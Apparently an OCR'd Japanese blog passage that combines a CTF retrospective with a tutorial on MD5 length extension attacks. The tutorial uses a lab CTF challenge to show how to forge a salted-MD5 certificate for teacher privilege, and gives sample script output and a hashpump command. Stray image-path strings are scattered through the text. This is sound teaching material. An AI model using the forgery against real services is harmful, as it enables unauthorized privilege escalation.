しかし,いざ次の日フラグを送ってみると不正解と言われます. 最初に見つけたアップロードリクエストの行を送ってみるとこっちが正解でした. (あとで調べたらレスポンスまでの時間がかかるとアクセス時間の順番通りにログが並ばないことが結構多いみたいです.) 上位5チームは全員この問題を解いていましたが,確信を持ってこれを選べたんですかね? レスポンスが"Internal Server Error"なので我々のチームメンバーはしっくりきてません.


全体的に良問で難易度も高くなかったのでやりやすかったです.ただ「攻撃ログ」と「find the flag」は個人的には肌に合わなかったです. 担当のForensicsは無かったですが代わりにSteganography,Binary系は結構解いたのでセーフ.あとExploit問題がほしかったです. チーム内で事前に役割分担していた上に,情報共有が事前練習通り上手くいったため早いうちに全完できました.


yoshikingはCTF初めて2か月なのに集中特訓していた暗号の250, 300点問題をちゃんと解いていた.えらいぞ.



進撃とかfind the flagとか時間かけた割にあんまり成果が出せなかったのでそこは反省です. 今後はSECCONに向けて対策していこうと思います.


Length Extension Attackの原理と実装


{H}md5sha1などのハッシュ関数としたとき,{H(m_1)}から{H(m_1 || m_2)}を求める攻撃をLength Extension Attackと呼びます. この記事では先日の研究室内で開いたCTFで出題した問題を例に,Length Extension Attackの原理と使い方を説明するとともに,Pythonによる実装を公開しようと思います.

Length Extension Attackの原理



最初のブロックでは図のように初期ベクトルIVを与え,各ブロックを順番に内部処理していきます.そして,最終的にはA,B,C,Dを並べた値を出力とします.メッセージが4ブロックよりも多い場合は,前の処理で得た出力をIVとして,同様に処理します.今,あるメッセージ{m_1}ハッシュ値{(A,B,C,D)}とします.では,この{(A,B,C,D)}をIVとして{m_2}ハッシュ値を取るとどうなるでしょうか.単純に考えれば{H(m_1 || m_2)}が計算できそうです.ただし,{m_2}のブロック数が4倍でない場合はパディングが追加されてしまうので,実際には{H(m_1 || padding || m_2)}を計算させます.したがって,必ずしも{H(m_1 || m_2)}が得られる訳ではありませんが,ゴミデータが間に入っているハッシュ値でも攻撃に利用できる場合があるのです.


攻撃原理を説明したところで,具体的な問題を解いてみましょう.次の問題は研究室内のCTFで出題したCrypto問題です.Hack You CTF 2014のhashmeという問題をベースに作りました. 問題ファイルとして,次のserver.pyと,これが動いているサーバーのアドレスとポート番号が渡されます.(文字列変数FLAG, SLATが入ったsecret.pyを別途用意する必要あり)

学生としての証明書をいくらでも発行できるサービスなのですが,教師としての証明書を作ることはできません.権限が教師の証明書を使えばフラグを見ることができます.証明書の発行でユーザー名を入力するとdata = 'priv:student|user:' + usernameが作られhash = md5(SALT + data)が計算されます.証明書はbase64(data + hash)として出力されます.construct関数でdataを辞書に展開するのですが,後ろにあるデータが優先されるので,usernameとして'hoge|priv:teacher'を与えれば教師権限を取ることができます.しかし,usernameとして使える文字は限られているので直接これを入力することはできません. ということで,md5(SALT + m1)が得られるので,ここからhash = md5(SALT + m1 + padding +'|priv:teacher')を計算し,証明書としてbase64(m1 + padding + '|priv:teacher' + hash)を与えれば教師権限を取ることができます.ただし,SALTの文字数が分からないのでパディングがどれだけ必要かは分かりません.これはどうしようもないので,SALTの文字数を1から順に変えていって試すしかないです.

Length Extension Attackの実装


攻撃と問題の説明はここまでです.興味のある方は,問題を解くコードも作ってみてください. SALTを"hoge"としてみると,こんな感じになります.

$ python lenxpand.py
known_md5 = e63f73a0551c84d96fd4d1311410d0ef
new_md5   = 77704b5b44435e866c45f001da0f69df
new_md5*  =77704b5b44435e866c45f001da0f69df
data      = 'user\x80\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00@\x00\x00\x00\x00\x00\x00\x00|priv:teacher'


$ hashpump -s e63f73a0551c84d96fd4d1311410d0ef -d user -k 4 -a "|priv:teacher"Length Extension Attackに関する詳しい説明: katagaitai CTF勉強会 #5Crypto

MD5の詳しいアルゴリズムMD5の計算方法 - BK class